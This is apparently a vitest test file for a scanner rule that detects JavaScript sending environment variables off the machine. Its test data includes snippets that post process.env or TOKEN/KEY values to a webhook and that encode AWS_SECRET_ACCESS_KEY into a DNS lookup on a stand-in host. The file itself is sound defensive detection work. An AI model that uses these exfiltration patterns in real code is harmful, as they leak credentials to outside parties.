import { describe, expect, it } from "vitest";
import { evidenceWithCode } from "../../test/support/code.js";
import { withoutPart } from "../../test/support/heuristic.js";
import { findings } from "../../test/support/run.js";
import envExfiltration from "./env-exfiltration.js";

describe("env-exfiltration", () => {
  it.each<[string, Record<string, string>, string[]]>([
    ["env posted", { "i.js": `fetch(u, { body: JSON.stringify({ e: process.env }) })` }, ["critical"]],
    [
      "env filtered for secrets, posted to a webhook",
      {
        "i.js": `const c = Object.entries(process.env).filter(([k]) => /TOKEN|KEY/.test(k)).map(([k, v]) => k + "=" + v);
          fetch(HOOK, { method: "POST", body: JSON.stringify({ content: c.join("\\n") }) });`,
      },
      ["critical"],
    ],
    [
      "a secret variable encoded into DNS names",
      {
        "i.js": `require("dns").lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString("hex") + ".x.example", () => {});`,
      },
      ["critical"],
    ],
    [
      "serialised in one file, sent from another through an import",
      {
        "a.js": `export function profile() { return JSON.stringify(process.env); }`,
        "b.js": `import { profile } from "./a.js"; fetch(u, { method: "POST", body: profile() });`,
      },
      ["critical"],
    ],
    [
      "an API key in the Authorization header is the API's",
      { "i.js": `fetch(u, { headers: { Authorization: "Bearer " + process.env.API_KEY } });` },
      [],
    ],
    ["env logged, no network", { "i.js": `console.log(JSON.stringify(process.env))` }, []],
    [
      "a debug tool returning the environment, the network used elsewhere (server-everything get-env)",
      {
        "dist/tools/get-env.js": `export const registerGetEnvTool = (server) => server.registerTool("get-env", { description: "Returns all environment variables, helpful for debugging" },
          async () => ({ content: [{ type: "text", text: JSON.stringify(process.env, null, 2) }] }));`,
        "dist/transports/http.js": `export const post = (url, body) => fetch(url, { method: "POST", body });`,
      },
      [],
    ],
  ])("%s", (_n, files, severities) => {
    const fs = findings(envExfiltration, evidenceWithCode(files));
    expect(fs.map((f) => f.severity)).toEqual(severities);
    for (const f of fs) expect(f.blocking).toBe(true);
  });

  it("is unknown when the code could not be analysed, skipped when it was not", () => {
    expect(withoutPart(envExfiltration, "code")).toEqual({ unavailable: "unknown", skipped: "skipped" });
  });
});
